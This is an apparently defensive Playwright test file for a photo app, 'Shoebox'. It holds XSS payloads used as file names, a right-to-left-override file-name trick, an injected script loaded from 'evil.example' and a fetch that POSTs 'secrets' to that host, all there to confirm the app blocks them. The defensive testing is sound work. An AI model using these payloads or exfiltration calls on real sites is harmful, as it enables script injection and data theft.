// What the page must withstand: script in file names, script put into the document. And what makes it an app one can install.
import sharp from 'sharp';
import {
  allSafe,
  closeUploads,
  drop,
  expect,
  signUp,
  snapshot,
  test,
  thumbnailsShown,
  tile,
  tiles,
  uploadCard,
  uploadLine,
  viewer,
  watch,
} from './shoebox.ts';

test('file names with script, markup or reversed text are shown as text and never run', async ({
  page,
  files,
}) => {
  await signUp(page);
  await page.evaluate(() => Object.assign(globalThis, { attacked: 0 }));
  const names = [
    '<img src=x onerror=attacked++>.jpg',
    '<script>attacked++<∕script>.jpg',
    '"><svg onload=attacked++>.jpg',
    "');attacked++;('.jpg",
    '{@html attacked++}${attacked++}.jpg',
    'javascript:attacked++.jpg',
  ];
  const contents: Record<string, Buffer> = {};
  for (const [index, name] of names.entries()) {
    contents[name] = await snapshot(index + 1, '2021:06:03 18:20:00');
  }
  const reversed = 'photo\u202Egpj.exe';
  contents[reversed] = Buffer.from('not a picture');
  await drop(page, await files(contents));
  await expect(tiles(page)).toHaveCount(names.length + 1, { timeout: 30_000 });
  await expect(uploadLine(page)).toHaveText('6 photos are safe, 1 problem');
  // Without the character that would make it read photoexe.jpg.
  await expect(uploadCard(page).getByText('photogpj.exe')).toBeVisible();
  await closeUploads(page);

  for (const name of names) {
    const one = page.getByRole('gridcell', { name, exact: false });
    await one.click();
    await expect(page.getByRole('dialog', { name: `Photo: ${name}`, exact: true })).toBeVisible();
    await viewer(page).getByRole('button', { name: 'Information' }).click();
    await expect(viewer(page).getByRole('complementary')).toContainText(name);
    await page.keyboard.press('Escape');
    await page.keyboard.press('Escape');
    await expect(viewer(page)).toHaveCount(0);
  }
  await expect(tile(page, 'photogpj.exe')).toBeVisible();
  expect(await page.evaluate('attacked')).toBe(0);
  expect(await page.locator('main img[onerror], main svg[onload], main script').count()).toBe(0);
});

test('script put into the document does not run', async ({ browser, baseURL }) => {
  // A context of its own: here the content security policy must have something to say.
  const context = await browser.newContext({ baseURL });
  const page = await context.newPage();
  const alarms = await watch(context);
  await signUp(page);
  await page
    .evaluate(() => {
      Object.assign(globalThis, { attacked: 0 });
      const inline = document.createElement('script');
      inline.append('attacked++');
      document.body.append(inline);
      const foreign = document.createElement('script');
      foreign.setAttribute('src', 'https://evil.example/script.js');
      document.body.append(foreign);
      const box = document.createElement('div');
      box.setAttribute('onclick', 'attacked++');
      document.body.append(box);
      box.click();
    })
    .catch(() => undefined);
  await expect.poll(() => alarms.length).toBeGreaterThan(0);
  expect(await page.evaluate('attacked')).toBe(0);
  // Nothing can be sent to anybody else either.
  const sent = await page.evaluate(() =>
    fetch('https://evil.example/', { method: 'POST', body: 'secrets' }).then(
      () => 'sent',
      () => 'stopped',
    ),
  );
  expect(sent).toBe('stopped');
  await context.close();
});

test('no other site can put the page into a frame', async ({ baseURL }) => {
  const { headers } = await fetch(baseURL ?? '');
  expect(headers.get('x-frame-options')).toBe('DENY');
  expect(headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
});

test('the page can be installed: manifest, icons and a service worker in control', async ({
  page,
  request,
}) => {
  await page.goto('/');
  const address = await page.locator('link[rel=manifest]').getAttribute('href');
  const manifest = (await (await request.get(address ?? '')).json()) as {
    name: string;
    start_url: string;
    display: string;
    icons: { src: string; sizes: string; type: string; purpose?: string }[];
  };
  expect(manifest).toMatchObject({ name: 'Shoebox', start_url: '/', display: 'standalone' });
  const sizes = new Set<string>();
  for (const { src, sizes: size, type } of manifest.icons) {
    const answer = await request.get(src);
    expect([src, answer.status(), answer.headers()['content-type']]).toEqual([src, 200, type]);
    if (type === 'image/svg+xml') continue;
    const { width, height } = await sharp(await answer.body()).metadata();
    expect(`${width}x${height}`).toBe(size);
    sizes.add(size);
  }
  expect(sizes).toEqual(new Set(['192x192', '512x512']));
  expect(manifest.icons.some(({ purpose }) => purpose === 'maskable')).toBe(true);

  const devtools = await page.context().newCDPSession(page);
  const { installabilityErrors } = await devtools.send('Page.getInstallabilityErrors');
  // Playwright's contexts are private windows, in which nothing can be installed: that is all that may be wrong.
  expect(installabilityErrors.map(({ errorId }) => errorId).filter((id) => id !== 'in-incognito')).toEqual(
    [],
  );

  await page.evaluate(async () => navigator.serviceWorker.ready);
  await page.reload();
  expect(await page.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toContain(
    '/service-worker.js',
  );
});

test('only signed pictures of the right kind are kept for offline use', async ({ page, files }) => {
  await signUp(page);
  await page.evaluate(async () => navigator.serviceWorker.ready);
  await drop(page, await files({ 'kept.jpg': await snapshot(1, '2021:06:03 18:20:00') }));
  await allSafe(page, 1);
  await page.reload();
  await thumbnailsShown(page, 1);
  const kept = () =>
    page.evaluate(async () => {
      const names = (await caches.keys()).filter((name) => name.startsWith('shoebox-renditions-'));
      const keys = await Promise.all(names.map(async (name) => (await caches.open(name)).keys()));
      return keys.flat().map(({ url }) => url);
    });
  await expect.poll(async () => (await kept()).length).toBe(1);
  // By key: no signature, no token.
  const [url] = await kept();
  expect(new URL(url ?? '').search).toBe('');
  expect(url).toMatch(/\/renditions\/.+\/thumb\.webp$/);
});
